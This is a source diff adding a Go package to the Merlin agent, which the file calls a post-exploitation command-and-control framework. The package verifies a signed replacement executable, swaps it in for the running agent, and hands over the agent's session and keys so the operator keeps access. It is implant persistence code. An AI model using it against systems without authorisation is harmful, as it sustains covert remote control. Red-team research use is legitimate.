@@ -0,0 +1,231 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+// Package update replaces the running Agent with a new executable delivered by the server. The executable must carry an
+// Ed25519 signature from the update key, it replaces the running executable on disk, and it is started with the Agent's
+// identity and authenticated session handed to it so the operator doesn't lose access
+package update
+
+import (
+	// Standard
+	"bytes"
+	"crypto/ed25519"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"time"
+
+	// 3rd Party
+	"github.com/google/uuid"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/clients"
+)
+
+const (
+	// ENV is the environment variable that tells a new Agent to read the handover from the Agent it replaced on STDIN
+	ENV = "MERLIN_HANDOVER"
+	// MAGIC ends a signed executable: | executable | Ed25519 signature of the executable (64 bytes) | MAGIC |
+	MAGIC = "MERLINUP"
+	// old is the suffix of the replaced executable until the new Agent removes it
+	old = ".old"
+	// maxHandover is the largest handover, in bytes, that is read from STDIN
+	maxHandover = 1 << 16
+)
+
+// Handover is the replaced Agent's identity, session, and update job handed to the new Agent
+type Handover struct {
+	Agent   uuid.UUID        `json:"agent"`             // Agent is the ID the new Agent keeps using
+	Session *clients.Session `json:"session,omitempty"` // Session is the authenticated session, if the client can hand it over
+	Old     string           `json:"old"`               // Old is the path of the replaced executable the new Agent removes
+	Job     string           `json:"job"`               // Job is the ID of the update job the new Agent returns the result for
+	Token   uuid.UUID        `json:"token"`             // Token is the update job's token
+	Version string           `json:"version"`           // Version is the replaced Agent's version and build
+	Serials Serials          `json:"serials"`           // Serials are the last server-signed PSK rotation and configuration the Agent applied
+	// Settings are the replaced Agent's effective configuration, keyed by command line flag name, including the PSK it
+	// rotated to and the settings the server pushed or switched, that replace the ones the new Agent was started with
+	Settings map[string]string `json:"settings,omitempty"`
+}
+
+// Serials are the last server messages the Agent applied that must not be applied again after the update
+type Serials struct {
+	PSK    uint64 `json:"psk,omitempty"`    // PSK is the Serial of the last PSK rotation
+	Config uint64 `json:"config,omitempty"` // Config is the Serial of the last pushed configuration
+}
+
+// key is the Ed25519 public key used to verify update signatures
+var key ed25519.PublicKey
+
+// mutex protects the key from concurrent access
+var mutex sync.RWMutex
+
+// SetKey sets the base64 encoded Ed25519 public key used to verify update signatures.
+// An empty string removes the key and prevents any update from being installed
+func SetKey(publicKey string) error {
+	var k ed25519.PublicKey
+	if publicKey != "" {
+		data, err := base64.StdEncoding.DecodeString(publicKey)
+		if err != nil {
+			return fmt.Errorf("update.SetKey(): there was an error base64 decoding the public key: %s", err)
+		}
+		if len(data) != ed25519.PublicKeySize {
+			return fmt.Errorf("update.SetKey(): the Ed25519 public key must be %d bytes but was %d", ed25519.PublicKeySize, len(data))
+		}
+		k = data
+	}
+	mutex.Lock()
+	key = k
+	mutex.Unlock()
+	return nil
+}
+
+// Verify checks the signature embedded at the end of the signed executable and returns the executable without it
+func Verify(data []byte) ([]byte, error) {
+	mutex.RLock()
+	k := key
+	mutex.RUnlock()
+	if k == nil {
+		return nil, fmt.Errorf("update.Verify(): the Agent does not have an update signing key and can't verify the executable")
+	}
+	if len(data) <= ed25519.SignatureSize+len(MAGIC) || !bytes.HasSuffix(data, []byte(MAGIC)) {
+		return nil, fmt.Errorf("update.Verify(): the executable does not have an embedded signature")
+	}
+	end := len(data) - len(MAGIC)
+	executable := data[:end-ed25519.SignatureSize]
+	if !ed25519.Verify(k, executable, data[end-ed25519.SignatureSize:end]) {
+		return nil, fmt.Errorf("update.Verify(): the executable's signature is invalid")
+	}
+	return executable, nil
+}
+
+// Replace writes the executable over the running one, keeping the running one aside, and starts it with the handover.
+// The running executable is restored if the new one can't be started
+func Replace(executable []byte, handover Handover) (pid int, err error) {
+	path, err := os.Executable()
+	if err != nil {
+		return 0, fmt.Errorf("update.Replace(): there was an error getting the agent's executable: %s", err)
+	}
+	path, err = filepath.EvalSymlinks(path)
+	if err != nil {
+		return 0, fmt.Errorf("update.Replace(): there was an error resolving the agent's executable: %s", err)
+	}
+	info, err := os.Stat(path)
+	if err != nil {
+		return 0, fmt.Errorf("update.Replace(): %s", err)
+	}
+
+	// Write the new executable next to the running one and swap their names; a running executable can be renamed
+	temp := path + ".new"
+	err = os.WriteFile(temp, executable, info.Mode().Perm())
+	if err != nil {
+		return 0, fmt.Errorf("update.Replace(): there was an error writing the new executable: %s", err)
+	}
+	handover.Old = path + old
+	err = os.Rename(path, handover.Old)
+	if err != nil {
+		_ = os.Remove(temp)
+		return 0, fmt.Errorf("update.Replace(): there was an error moving the running executable aside: %s", err)
+	}
+	err = os.Rename(temp, path)
+	if err == nil {
+		pid, err = start(path, handover)
+		if err == nil {
+			return pid, nil
+		}
+		_ = os.Remove(path)
+	} else {
+		_ = os.Remove(temp)
+	}
+
+	// Put the running executable back
+	if errRestore := os.Rename(handover.Old, path); errRestore != nil {
+		return 0, fmt.Errorf("update.Replace(): %s and there was an error restoring the running executable: %s", err, errRestore)
+	}
+	return 0, fmt.Errorf("update.Replace(): %s", err)
+}
+
+// start runs the executable with the Agent's command line arguments and writes the handover to its STDIN
+func start(path string, handover Handover) (int, error) {
+	data, err := json.Marshal(handover)
+	if err != nil {
+		return 0, fmt.Errorf("there was an error encoding the handover: %s", err)
+	}
+	cmd := exec.Command(path, os.Args[1:]...) // #nosec G204 -- The executable was verified with the update key
+	cmd.Env = append(os.Environ(), ENV+"=1")
+	stdin, err := cmd.StdinPipe()
+	if err != nil {
+		return 0, fmt.Errorf("there was an error creating the new Agent's STDIN: %s", err)
+	}
+	err = cmd.Start()
+	if err != nil {
+		return 0, fmt.Errorf("there was an error starting the new executable: %s", err)
+	}
+	// The handover fits in the pipe's buffer so it is written before this Agent exits, even if it wasn't read yet
+	_, err = stdin.Write(data)
+	_ = stdin.Close()
+	if err != nil {
+		_ = cmd.Process.Kill()
+		return 0, fmt.Errorf("there was an error writing the handover to the new Agent: %s", err)
+	}
+	pid := cmd.Process.Pid
+	_ = cmd.Process.Release()
+	return pid, nil
+}
+
+// Resumed returns the handover from the Agent this one replaced and true if this Agent was started by an update
+func Resumed() (handover Handover, ok bool, err error) {
+	if os.Getenv(ENV) == "" {
+		return
+	}
+	_ = os.Unsetenv(ENV)
+	data, err := io.ReadAll(io.LimitReader(os.Stdin, maxHandover))
+	if err != nil {
+		err = fmt.Errorf("update.Resumed(): there was an error reading the handover: %s", err)
+		return
+	}
+	err = json.Unmarshal(data, &handover)
+	if err != nil {
+		err = fmt.Errorf("update.Resumed(): there was an error decoding the handover: %s", err)
+		return
+	}
+	return handover, true, nil
+}
+
+// Cleanup removes the replaced executable once the Agent that was running it exits, giving up after a minute
+func Cleanup(path string) error {
+	if !strings.HasSuffix(path, old) {
+		return fmt.Errorf("update.Cleanup(): %s is not a replaced executable", path)
+	}
+	var err error
+	for i := 0; i < 60; i++ {
+		err = os.Remove(path)
+		if err == nil || os.IsNotExist(err) {
+			return nil
+		}
+		time.Sleep(time.Second)
+	}
+	return fmt.Errorf("update.Cleanup(): there was an error removing the replaced executable %s: %s", path, err)
+}